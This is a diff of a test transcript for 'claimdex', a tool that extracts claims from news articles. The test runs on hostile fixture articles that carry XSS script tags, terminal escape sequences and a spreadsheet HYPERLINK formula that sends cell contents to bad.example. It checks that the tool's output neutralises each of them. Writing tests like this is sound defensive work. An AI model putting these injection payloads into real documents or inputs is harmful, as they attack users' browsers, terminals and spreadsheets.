@@ -2,24 +2,24 @@ An article that would like to talk to the terminal, a spreadsheet or a browser. 
 kept in the record, where offsets count them, and are made visible wherever they are shown.
 
   $ claimdex ingest $DATA/bad/hostile.html $DATA/bad/hostile.txt
-  2 articles, 16 claims, 2 repeats, 0 failed
+  2 articles, 14 claims, 2 repeats, 0 failed
 
   Worth checking first
   c2     unchecked        casualty.killed  at least 12
          At least 12 people were killed in Port Havel on Monday
          mayor (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-  c11    unchecked        casualty.killed  at least 12
+  c10    unchecked        casualty.killed  at least 12
          At least 12 people were killed in Port Havel on Monday
          mayor (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c6     unchecked        detention.arrested  60
-         http://bad.example/?x="&A1,"more than 60 people were detained
-         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-  c16    unchecked        detention.arrested  60
-         http://bad.example/?x="&A1,"more than 60 people were detained
-         the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
   c5     unchecked        casualty.missing  around 40 (35 to 45)
          Some 40 people �derujni erew�, and �around 50� were missing
          police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
+  c13    unchecked        casualty.missing  around 40 (35 to 45)
+         Some 40 people �derujni erew�, and �around 50� were missing
+         police� (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
+  c6     unchecked        detention.arrested  60
+         http://bad.example/?x="&A1,"more than 60 people were detained
+         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
 
   next: claimdex show c2   claimdex search 'kind:casualty verdict:unchecked'   claimdex stats
   claimdex: 1 article has no publication date, so relative dates in it ("on Monday") stay open
@@ -64,64 +64,64 @@ kept in the record, where offsets count them, and are made visible wherever they
 
     1  quantity.distance  0 metres
        "[31mred^[[0m ^[]0"
-       the article itself (no source named) · unattributed_number · worth 0.75, confidence 0.60, quantity.distance.plain
+       the article itself (no source named) · unattributed_number · worth 0.50, confidence 0.60, quantity.distance.plain
     2  casualty.killed  at least 12
        "At least 12 people were killed in Port Havel on Monday"
        mayor (reported speech) · Port Havel · Monday · relative_time_unresolved · worth 0.96, confidence 0.90, casualty.killed.passive
     3  quantity.people  30
        "1H^[[31mfound 30 survivors^[[0m"
-       fire chief (reported speech) · worth 0.72, confidence 0.60, quantity.people.plain
+       fire chief (reported speech) · worth 0.75, confidence 0.60, quantity.people.plain
     4  quantity.distance  0 metres
        "1H^[[31mfound 30 survivors^[[0m"
-       fire chief (reported speech) · worth 0.66, confidence 0.60, quantity.distance.plain
+       fire chief (reported speech) · worth 0.55, confidence 0.60, quantity.distance.plain
     5  quantity.distance  31 metres
        "owned^G and a bell ^G and a C1 CSI �31m"
-       the article itself (no source named) · unattributed_number · worth 0.78, confidence 0.60, quantity.distance.plain
+       the article itself (no source named) · unattributed_number · worth 0.35, confidence 0.60, quantity.distance.plain
     6  casualty.missing  around 40 (35 to 45)
        "Some 40 people �derujni erew�, and �around 50� were missing"
-       police� (reported speech) · worth 0.93, confidence 0.90, casualty.missing.passive
+       police� (reported speech) · worth 0.95, confidence 0.90, casualty.missing.passive
     7  detention.arrested  60
        "http://bad.example/?x="&A1,"more than 60 people were detained"
-       the article itself (no source named) · unattributed_number · worth 0.94, confidence 0.90, detention.arrested.passive
+       the article itself (no source named) · unattributed_number · worth 0.93, confidence 0.90, detention.arrested.passive
     8  attribution.quote
        ""<script>alert(1)</script>,""
-       mayor (direct quote) · worth 0.49, confidence 0.90, attribution.quote.direct
+       mayor (direct quote) · worth 0.67, confidence 0.90, attribution.quote.direct
     9  attribution.quote
        ""</script><img src=x onerror=alert(2)>""
-       mayor (direct quote; named in an earlier sentence) · worth 0.48, confidence 0.60, attribution.quote.direct.carried
+       mayor (direct quote; named in an earlier sentence) · worth 0.36, confidence 0.60, attribution.quote.direct.carried
   $ claimdex search '*'
-  c16    unchecked        detention.arrested  60
+  c14    unchecked        detention.arrested  60
          http://bad.example/?x="&A1,"more than 60 people were detained
          the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c15    unchecked        casualty.missing  around 40 (35 to 45)
+  c13    unchecked        casualty.missing  around 40 (35 to 45)
          Some 40 people �derujni erew�, and �around 50� were missing
          police� (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c14    unchecked        quantity.distance  31 metres
-         owned^G and a bell ^G and a C1 CSI �31m
-         the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c13    unchecked        quantity.distance  0 metres
+  c12    unchecked        quantity.distance  0 metres
          1H^[[31mfound 30 survivors^[[0m
          fire chief (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c12    unchecked        quantity.people  30
+  c11    unchecked        quantity.people  30
          1H^[[31mfound 30 survivors^[[0m
          fire chief (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c11    unchecked        casualty.killed  at least 12
+  c10    unchecked        casualty.killed  at least 12
          At least 12 people were killed in Port Havel on Monday
          mayor (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c10    unchecked        quantity.distance  0 metres
+  c9     unchecked        quantity.distance  0 metres
          [31mred^[[0m ^[]0
          the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c9     unchecked        quantity.distance  31 metres
-         [31mred^[[0m �abc�def ^G � ›31m
-         Encoded (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
   c8     unchecked        attribution.quote
          "</script><img src=x onerror=alert(2)>"
          mayor (direct quote; named in an earlier sentence) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions
   c7     unchecked        attribution.quote
          "<script>alert(1)</script>,"
          mayor (direct quote) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions
+  c6     unchecked        detention.arrested  60
+         http://bad.example/?x="&A1,"more than 60 people were detained
+         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
+  c5     unchecked        casualty.missing  around 40 (35 to 45)
+         Some 40 people �derujni erew�, and �around 50� were missing
+         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
   $ claimdex show $(claimdex search --ids '*')
-  c16  detention.arrested  unchecked, new
+  c14  detention.arrested  unchecked, new
 
     http://bad.example/?x="&A1,"more than 60 people were detained
 
@@ -133,12 +133,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.94, confidence 0.90, rule detention.arrested.passive
+    worth       0.93, confidence 0.90, rule detention.arrested.passive
 
   history
-    2031-05-20T12:00:00Z  ada        c16    claim: http://bad.example/?x="&A1,"more than 60 people were detained
+    2031-05-20T12:00:00Z  ada        c14    claim: http://bad.example/?x="&A1,"more than 60 people were detained
 
-  c15  casualty.missing  unchecked, new
+  c13  casualty.missing  unchecked, new
 
     Some 40 people �derujni erew�, and �around 50� were missing
 
@@ -149,28 +149,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     said by     police� (reported speech)
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.93, confidence 0.90, rule casualty.missing.passive
+    worth       0.95, confidence 0.90, rule casualty.missing.passive
 
   history
-    2031-05-20T12:00:00Z  ada        c15    claim: Some 40 people �derujni erew�, and �around 50� were missing
+    2031-05-20T12:00:00Z  ada        c13    claim: Some 40 people �derujni erew�, and �around 50� were missing
 
-  c14  quantity.distance  unchecked, new
-
-    owned^G and a bell ^G and a C1 CSI �31m
-
-    A link: ^[]8;;http://bad.example/^[\click here^[]8;;^[\ and a title ^[]0;owned^G and a bell ^G and a C1 CSI �31m.
-
-    figure      31 metres
-    said by     the article itself (no source named)
-    flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
-    article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-    mentions    1 in 1 origin
-    worth       0.78, confidence 0.60, rule quantity.distance.plain
-
-  history
-    2031-05-20T12:00:00Z  ada        c14    claim: owned^G and a bell ^G and a C1 CSI �31m
-
-  c13  quantity.distance  unchecked, new
+  c12  quantity.distance  unchecked, new
 
     1H^[[31mfound 30 survivors^[[0m
 
@@ -180,12 +164,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     said by     fire chief (reported speech)
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.66, confidence 0.60, rule quantity.distance.plain
+    worth       0.55, confidence 0.60, rule quantity.distance.plain
 
   history
-    2031-05-20T12:00:00Z  ada        c13    claim: 1H^[[31mfound 30 survivors^[[0m
+    2031-05-20T12:00:00Z  ada        c12    claim: 1H^[[31mfound 30 survivors^[[0m
 
-  c12  quantity.people  unchecked, new
+  c11  quantity.people  unchecked, new
 
     1H^[[31mfound 30 survivors^[[0m
 
@@ -196,12 +180,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     said by     fire chief (reported speech)
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.72, confidence 0.60, rule quantity.people.plain
+    worth       0.75, confidence 0.60, rule quantity.people.plain
 
   history
-    2031-05-20T12:00:00Z  ada        c12    claim: 1H^[[31mfound 30 survivors^[[0m
+    2031-05-20T12:00:00Z  ada        c11    claim: 1H^[[31mfound 30 survivors^[[0m
 
-  c11  casualty.killed  unchecked, new
+  c10  casualty.killed  unchecked, new
 
     At least 12 people were killed in Port Havel on Monday
 
@@ -218,9 +202,9 @@ kept in the record, where offsets count them, and are made visible wherever they
     worth       0.96, confidence 0.90, rule casualty.killed.passive
 
   history
-    2031-05-20T12:00:00Z  ada        c11    claim: At least 12 people were killed in Port Havel on Monday
+    2031-05-20T12:00:00Z  ada        c10    claim: At least 12 people were killed in Port Havel on Monday
 
-  c10  quantity.distance  unchecked, new
+  c9  quantity.distance  unchecked, new
 
     [31mred^[[0m ^[]0
 
@@ -231,25 +215,10 @@ kept in the record, where offsets count them, and are made visible wherever they
     flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.75, confidence 0.60, rule quantity.distance.plain
+    worth       0.50, confidence 0.60, rule quantity.distance.plain
 
   history
-    2031-05-20T12:00:00Z  ada        c10    claim: [31mred^[[0m ^[]0
-
-  c9  quantity.distance  unchecked, new
-
-    [31mred^[[0m �abc�def ^G � ›31m
-
-    Encoded: ^[[31mred^[[0m �abc�def ^G � ›31m
-
-    figure      31 metres
-    said by     Encoded (reported speech)
-    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-    mentions    1 in 1 origin
-    worth       0.71, confidence 0.60, rule quantity.distance.plain
-
-  history
-    2031-05-20T12:00:00Z  ada        c9     claim: [31mred^[[0m �abc�def ^G � ›31m
+    2031-05-20T12:00:00Z  ada        c9     claim: [31mred^[[0m ^[]0
 
   c8  attribution.quote  unchecked, new
 
@@ -261,12 +230,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
     mentions    2 in 2 origins
                 m8 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-                m18 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-    worth       0.48, confidence 0.60, rule attribution.quote.direct.carried
+                m16 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
+    worth       0.36, confidence 0.60, rule attribution.quote.direct.carried
 
   history
     2031-05-20T12:00:00Z  ada        c8     claim: "</script><img src=x onerror=alert(2)>"
-    2031-05-20T12:00:00Z  ada        c8     mention: m18
+    2031-05-20T12:00:00Z  ada        c8     mention: m16
 
   c7  attribution.quote  unchecked, new
 
@@ -278,12 +247,45 @@ kept in the record, where offsets count them, and are made visible wherever they
     article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
     mentions    2 in 2 origins
                 m7 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-                m17 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-    worth       0.49, confidence 0.90, rule attribution.quote.direct
+                m15 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
+    worth       0.67, confidence 0.90, rule attribution.quote.direct
 
   history
     2031-05-20T12:00:00Z  ada        c7     claim: "<script>alert(1)</script>,"
-    2031-05-20T12:00:00Z  ada        c7     mention: m17
+    2031-05-20T12:00:00Z  ada        c7     mention: m15
+
+  c6  detention.arrested  unchecked, new
+
+    http://bad.example/?x="&A1,"more than 60 people were detained
+
+    =HYPERLINK("http://bad.example/?x="&A1,"more than 60 people were detained")
+
+    figure      60
+    who         people (other)
+    said by     the article itself (no source named)
+    flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
+    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
+    mentions    1 in 1 origin
+    worth       0.93, confidence 0.90, rule detention.arrested.passive
+
+  history
+    2031-05-20T12:00:00Z  ada        c6     claim: http://bad.example/?x="&A1,"more than 60 people were detained
+
+  c5  casualty.missing  unchecked, new
+
+    Some 40 people �derujni erew�, and �around 50� were missing
+
+    Some 40 people �derujni erew�, and �around 50� were missing, police� said.
+
+    figure      around 40 (35 to 45)
+    who         people (other)
+    said by     police� (reported speech)
+    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
+    mentions    1 in 1 origin
+    worth       0.95, confidence 0.90, rule casualty.missing.passive
+
+  history
+    2031-05-20T12:00:00Z  ada        c5     claim: Some 40 people �derujni erew�, and �around 50� were missing
 
 No control character reaches a terminal from any command, coloured or not.
 
@@ -312,19 +314,17 @@ A spreadsheet gets words, not formulas.
   \x636,detention.arrested,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x637,attribution.quote,"""<script>alert(1)</script>,""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,600,628,2,2,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x638,attribution.quote,"""</script><img src=x onerror=alert(2)>""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,645,684,2,2,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x639,quantity.distance,[31mred[0m abcdef  � ›31m,unchecked,new,,31m,31,31,31,exact,metre,Encoded,,indirect,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,696,725,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6310,quantity.distance,[31mred[0m ]0,unchecked,new,,0m,0,0,0,exact,metre,,,,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,48,63,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6311,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,124,178,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6312,quantity.people,1H[31mfound 30 survivors[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6313,quantity.distance,1H[31mfound 30 survivors[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6314,quantity.distance,owned and a bell  and a C1 CSI 31m,unchecked,new,,31m,31,31,31,exact,metre,,,,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,335,372,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6315,casualty.missing,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6316,detention.arrested,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x639,quantity.distance,[31mred[0m ]0,unchecked,new,,0m,0,0,0,exact,metre,,,,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,48,63,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6310,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,124,178,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6311,quantity.people,1H[31mfound 30 survivors[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6312,quantity.distance,1H[31mfound 30 survivors[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6313,casualty.missing,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6314,detention.arrested,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
 
 A page gets text, not markup.
 
   $ claimdex export '*' -o sheet.html
-  claimdex: 16 claims in sheet.html
+  claimdex: 14 claims in sheet.html
   $ grep -c '<script' sheet.html
   0
   [1]
